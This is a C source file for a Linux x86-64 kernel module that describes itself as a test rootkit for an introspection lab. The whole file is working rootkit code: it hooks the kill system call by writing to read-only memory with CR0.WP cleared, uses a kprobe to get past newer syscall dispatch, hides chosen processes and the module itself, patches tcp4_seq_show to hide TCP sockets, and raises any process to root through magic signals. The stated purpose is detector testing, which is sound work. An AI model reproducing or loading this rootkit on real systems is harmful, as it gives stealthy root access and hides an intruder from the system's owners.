// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_rootkit — a TEST kernel rootkit for the Vmi lab guest (x86-64, Linux 6.1). It exists so that
 * Vmi's introspection detectors have real attacks to find; never load it anywhere else.
 *
 * On load it installs only attack (a): sys_call_table[__NR_kill] is replaced by vmi_kill_hook
 * (the original is kept and restored on unload). Everything else is triggered by magic signals,
 * classic rootkit style:
 *
 *   kill -63 PID   (b) hide process PID: unlink its task_struct from the task list (init_task.tasks)
 *   kill -62 0     (c) hide this module: off the module list (/proc/modules, lsmod, /proc/kallsyms)
 *                      and out of sysfs (/sys/module/vmi_rootkit)
 *   kill -61 0     (d) patch the prologue of tcp4_seq_show with "jmp rel32" to a function of this
 *                      module that shows only the header: /proc/net/tcp lists no IPv4 TCP socket
 *   kill -64 PID   (e) raise PID's credentials to root in place (DKOM on real_cred and cred)
 *   kill -60 PID   undo (b): link the hidden task back into the task list
 *
 * The control channel. Since the branch-history-injection fixes (mainline 6.9, backported to 6.1.85
 * and so in Debian's 6.1 kernels) x86-64 dispatches system calls through x64_sys_call(), a switch
 * of direct calls: sys_call_table is still in memory, and replacing an entry there is still the
 * attack introspection must see, but the kernel no longer calls through it. When x64_sys_call
 * exists, the module therefore also registers a kprobe on __x64_sys_kill whose pre-handler sends
 * the magic signals (and only those) to vmi_kill_hook by rewriting the probed IP (the technique of
 * bpf_override_return). The kprobe sits on the function's ftrace site, so it shows as a patched
 * "call" at __x64_sys_kill+0 (an ftrace trampoline, not this module). Where the table is still used,
 * vmi_kill_hook is reached through the table and no kprobe is registered.
 *
 * Kernel text and the read-only sys_call_table are written with CR0.WP cleared by a raw
 * "mov %reg,%cr0" (native_write_cr0 pins WP since 5.3), with every other CPU held by stop_machine
 * and interrupts off, then WP is set again. kallsyms_lookup_name is not exported since 5.7: a kprobe
 * on it tells its address.
 *
 * Safety: a hidden task is unlinked with list_del_rcu, and after an RCU grace period its tasks entry
 * is made self-linked, so the task can exit later without harm (release_task's list_del_rcu on a
 * self-linked entry is a no-op). Do not let a task exit in the few milliseconds between "kill -63"
 * and the "hidden" line in dmesg. Before it hides itself the module unloads cleanly (rmmod restores
 * the table entry and the prologue, and relinks hidden tasks); once hidden, rmmod cannot find it.
 */
#define pr_fmt(fmt) "vmi_rootkit: " fmt

#include <linux/cred.h>
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/syscalls.h>
#include <linux/uaccess.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/sync_core.h>
#include <asm/unaligned.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_AUTHOR("Vmi lab");
MODULE_DESCRIPTION("Vmi test rootkit: syscall table hook, process/module hiding, prologue patch, credential escalation");

#define SIG_UNHIDE 60
#define SIG_PATCH 61
#define SIG_HIDE_MODULE 62
#define SIG_HIDE_PID 63
#define SIG_ROOT 64

#define JMP_SIZE 5
#define MAX_HIDDEN 16

static bool kprobe_channel = true;
module_param(kprobe_channel, bool, 0444);
MODULE_PARM_DESC(kprobe_channel, "when the kernel does not call through sys_call_table, reach the kill hook through a kprobe on __x64_sys_kill (default on)");

typedef unsigned long (*lookup_fn_t)(const char *name);
typedef asmlinkage long (*syscall_fn_t)(const struct pt_regs *regs);

static lookup_fn_t lookup_name;
static unsigned long *syscall_table;
static syscall_fn_t orig_kill;
static bool table_hooked;
static bool kprobe_armed;
static rwlock_t *tasklist_lock_p;
static struct mutex *module_mutex_p;
static DEFINE_MUTEX(action_lock);
static bool module_hidden;

static u8 *patched_fn;
static u8 saved_prologue[JMP_SIZE];

static struct task_struct *hidden_tasks[MAX_HIDDEN];

/* ---- writing read-only kernel memory ------------------------------------------------------ */

static inline void raw_write_cr0(unsigned long val)
{
	asm volatile("mov %0,%%cr0" : "+r"(val) : : "memory");
}

struct poke {
	void *dst;
	const void *src;
	size_t len;
};

/* Runs under stop_machine: this CPU has interrupts off, every other CPU spins with interrupts off. */
static int poke_locked(void *data)
{
	struct poke *p = data;
	unsigned long cr0 = native_read_cr0();

	raw_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(p->dst, p->src, p->len);
	raw_write_cr0(cr0);
	return 0;
}

static void serialize_cpu(void *unused)
{
	sync_core();
}

/* Writes len bytes at dst, which may be read-only (kernel text, .rodata). */
static int write_ro(void *dst, const void *src, size_t len)
{
	struct poke p = { .dst = dst, .src = src, .len = len };
	int rc;

	if (native_read_cr4() & X86_CR4_CET)
		return -EPERM; /* CR0.WP cannot be cleared while CET is on */
	rc = stop_machine(poke_locked, &p, NULL);
	on_each_cpu(serialize_cpu, NULL, 1);
	return rc;
}

/* ---- symbols ------------------------------------------------------------------------------ */

static int resolve_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int rc = register_kprobe(&kp);

	if (rc < 0) {
		pr_err("cannot resolve kallsyms_lookup_name with a kprobe: %d\n", rc);
		return rc;
	}
	lookup_name = (lookup_fn_t)kp.addr;
	unregister_kprobe(&kp);
	pr_info("kallsyms_lookup_name at %px (found with a kprobe)\n", lookup_name);
	return 0;
}

/* ---- (b) process hiding --------------------------------------------------------------------- */

static struct task_struct *get_task(pid_t nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static long hide_pid(pid_t nr)
{
	struct task_struct *t;
	int slot;

	if (nr <= 1)
		return -EINVAL;
	t = get_task(nr);
	if (!t)
		return -ESRCH;
	if (!thread_group_leader(t)) {
		put_task_struct(t);
		return -EINVAL;
	}
	for (slot = 0; slot < MAX_HIDDEN && hidden_tasks[slot]; slot++) {
		if (hidden_tasks[slot] == t) {
			put_task_struct(t);
			return 0;
		}
	}
	if (slot == MAX_HIDDEN) {
		put_task_struct(t);
		return -ENOSPC;
	}
	write_lock_irq(tasklist_lock_p);
	if (t->exit_state || list_empty(&t->tasks)) {
		write_unlock_irq(tasklist_lock_p);
		put_task_struct(t);
		return -ESRCH;
	}
	list_del_rcu(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	/* RCU readers standing on t may still follow t->tasks.next: let them finish first. */
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	if (t->tasks.prev == LIST_POISON2)
		INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	hidden_tasks[slot] = t; /* keeps the reference */
	pr_info("hid pid %d (%s): task_struct %px unlinked from the task list (init_task %px); still in the pid hash and run queues\n",
		nr, t->comm, t, &init_task);
	return 0;
}

static void relink(struct task_struct *t)
{
	write_lock_irq(tasklist_lock_p);
	if (!t->exit_state && list_empty(&t->tasks))
		list_add_tail_rcu(&t->tasks, &init_task.tasks);
	write_unlock_irq(tasklist_lock_p);
}

static long unhide_pid(pid_t nr)
{
	int i;

	for (i = 0; i < MAX_HIDDEN; i++) {
		struct task_struct *t = hidden_tasks[i];

		if (t && task_tgid_vnr(t) == nr) {
			relink(t);
			hidden_tasks[i] = NULL;
			pr_info("unhid pid %d (%s): task_struct %px linked back into the task list\n", nr, t->comm, t);
			put_task_struct(t);
			return 0;
		}
	}
	return -ESRCH;
}

/* ---- (c) module hiding ---------------------------------------------------------------------- */

static long hide_module(void)
{
	if (module_hidden)
		return 0;
	mutex_lock(module_mutex_p);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex_p);
	synchronize_rcu();
	mutex_lock(module_mutex_p);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	mutex_unlock(module_mutex_p);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	module_hidden = true;
	pr_info("hid module: struct module %px (core %px, %u bytes) unlinked from the module list and removed from /sys/module\n",
		THIS_MODULE, THIS_MODULE->core_layout.base, THIS_MODULE->core_layout.size);
	return 0;
}

/* ---- (d) prologue patch --------------------------------------------------------------------- */

#define TCP4_HEADER "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode"

/* Replaces tcp4_seq_show: the header line (as the kernel prints it), then nothing. */
static noinline int vmi_tcp4_seq_show(struct seq_file *seq, void *v)
{
	if (v == SEQ_START_TOKEN)
		seq_printf(seq, "%-*s\n", 149, TCP4_HEADER);
	return 0;
}

static long patch_prologue(void)
{
	u8 *fn;
	u8 jmp[JMP_SIZE];
	long rel;
	int rc;

	if (patched_fn)
		return 0;
	fn = (u8 *)lookup_name("tcp4_seq_show");
	if (!fn) {
		pr_err("tcp4_seq_show not found\n");
		return -ENOENT;
	}
	rel = (long)((unsigned long)vmi_tcp4_seq_show - ((unsigned long)fn + JMP_SIZE));
	if (rel != (s32)rel) {
		pr_err("tcp4_seq_show %px is out of rel32 reach of %px\n", fn, vmi_tcp4_seq_show);
		return -ERANGE;
	}
	memcpy(saved_prologue, fn, JMP_SIZE);
	jmp[0] = 0xe9;
	put_unaligned((s32)rel, (s32 *)&jmp[1]);
	rc = write_ro(fn, jmp, JMP_SIZE);
	if (rc) {
		pr_err("patching tcp4_seq_show failed: %d\n", rc);
		return rc;
	}
	patched_fn = fn;
	pr_info("patched tcp4_seq_show at %px: %5phN -> %5phN (jmp %px vmi_tcp4_seq_show)\n",
		fn, saved_prologue, fn, vmi_tcp4_seq_show);
	return 0;
}

/* ---- (e) credential escalation -------------------------------------------------------------- */

static void make_root(struct cred *c)
{
	c->uid = c->suid = c->euid = c->fsuid = GLOBAL_ROOT_UID;
	c->gid = c->sgid = c->egid = c->fsgid = GLOBAL_ROOT_GID;
	c->cap_permitted = CAP_FULL_SET;
	c->cap_effective = CAP_FULL_SET;
}

static long escalate(pid_t nr)
{
	struct task_struct *t = get_task(nr);
	struct cred *real, *eff;
	uid_t old_uid;

	if (!t)
		return -ESRCH;
	rcu_read_lock();
	real = (struct cred *)rcu_dereference(t->real_cred);
	eff = (struct cred *)rcu_dereference(t->cred);
	old_uid = from_kuid(&init_user_ns, real->uid);
	/* In place: a cred shared with other tasks (threads, or a fork that has not changed its
	 * credentials since) raises those tasks as well. */
	make_root(real);
	if (eff != real)
		make_root(eff);
	rcu_read_unlock();
	pr_info("escalated pid %d (%s): task_struct %px real_cred %px cred %px uid %u -> 0 (uid/gid/suid/sgid/euid/egid/fsuid/fsgid, full capabilities)\n",
		nr, t->comm, t, real, eff, old_uid);
	put_task_struct(t);
	return 0;
}

/* ---- (a) the kill hook ---------------------------------------------------------------------- */

static bool is_magic(int sig)
{
	return sig >= SIG_UNHIDE && sig <= SIG_ROOT;
}

static asmlinkage long vmi_kill_hook(const struct pt_regs *regs)
{
	pid_t pid = (pid_t)regs->di;
	int sig = (int)regs->si;
	long rc;

	if (!is_magic(sig))
		return orig_kill(regs);
	mutex_lock(&action_lock);
	switch (sig) {
	case SIG_HIDE_PID:
		rc = hide_pid(pid);
		break;
	case SIG_HIDE_MODULE:
		rc = hide_module();
		break;
	case SIG_PATCH:
		rc = patch_prologue();
		break;
	case SIG_ROOT:
		rc = escalate(pid);
		break;
	case SIG_UNHIDE:
		rc = unhide_pid(pid);
		break;
	default:
		rc = -EINVAL;
	}
	mutex_unlock(&action_lock);
	if (rc)
		pr_info("signal %d pid %d failed: %ld\n", sig, pid, rc);
	return rc;
}

/* The kprobe channel: only the magic signals are diverted to vmi_kill_hook (as if it had been
 * called instead of __x64_sys_kill); every other kill runs the original untouched. */
static int kill_pre(struct kprobe *p, struct pt_regs *kregs)
{
	const struct pt_regs *uregs = (const struct pt_regs *)kregs->di;

	if (!uregs || !is_magic((int)uregs->si))
		return 0;
	kregs->ip = (unsigned long)vmi_kill_hook;
	return 1;
}

static struct kprobe kill_probe = {
	.symbol_name = "__x64_sys_kill",
	.pre_handler = kill_pre,
};

/* ---- load / unload -------------------------------------------------------------------------- */

static int __init vmi_rootkit_init(void)
{
	unsigned long entry;
	int rc = resolve_lookup_name();

	if (rc)
		return rc;
	syscall_table = (unsigned long *)lookup_name("sys_call_table");
	tasklist_lock_p = (rwlock_t *)lookup_name("tasklist_lock");
	module_mutex_p = (struct mutex *)lookup_name("module_mutex");
	if (!syscall_table || !tasklist_lock_p || !module_mutex_p) {
		pr_err("symbols missing: sys_call_table %px tasklist_lock %px module_mutex %px\n",
			syscall_table, tasklist_lock_p, module_mutex_p);
		return -ENOENT;
	}
	pr_info("loaded: struct module %px, core %px (%u bytes), sys_call_table %px\n",
		THIS_MODULE, THIS_MODULE->core_layout.base, THIS_MODULE->core_layout.size, syscall_table);

	orig_kill = (syscall_fn_t)syscall_table[__NR_kill];
	entry = (unsigned long)vmi_kill_hook;
	rc = write_ro(&syscall_table[__NR_kill], &entry, sizeof(entry));
	if (rc) {
		pr_err("replacing sys_call_table[%d] failed: %d\n", __NR_kill, rc);
		return rc;
	}
	table_hooked = true;
	pr_info("sys_call_table[%d] (kill) at %px: %px (%pS) -> %px (vmi_kill_hook)\n",
		__NR_kill, &syscall_table[__NR_kill], orig_kill, orig_kill, vmi_kill_hook);

	if (lookup_name("x64_sys_call") && kprobe_channel) {
		rc = register_kprobe(&kill_probe);
		if (rc < 0) {
			pr_err("kprobe on __x64_sys_kill failed: %d; magic signals will not reach the hook\n", rc);
		} else {
			kprobe_armed = true;
			pr_info("this kernel calls syscalls through x64_sys_call, not the table: kprobe on __x64_sys_kill at %px diverts signals %d-%d to vmi_kill_hook\n",
				kill_probe.addr, SIG_UNHIDE, SIG_ROOT);
		}
	}
	pr_info("ready: kill -63 PID hides a process, -62 0 hides the module, -61 0 patches tcp4_seq_show, -64 PID makes PID root, -60 PID unhides\n");
	return 0;
}

static void __exit vmi_rootkit_exit(void)
{
	int i;

	if (kprobe_armed)
		unregister_kprobe(&kill_probe);
	if (table_hooked)
		write_ro(&syscall_table[__NR_kill], &orig_kill, sizeof(orig_kill));
	if (patched_fn)
		write_ro(patched_fn, saved_prologue, JMP_SIZE);
	for (i = 0; i < MAX_HIDDEN; i++) {
		if (hidden_tasks[i]) {
			relink(hidden_tasks[i]);
			put_task_struct(hidden_tasks[i]);
		}
	}
	pr_info("unloaded: sys_call_table[%d], tcp4_seq_show and the task list restored\n", __NR_kill);
}

module_init(vmi_rootkit_init);
module_exit(vmi_rootkit_exit);
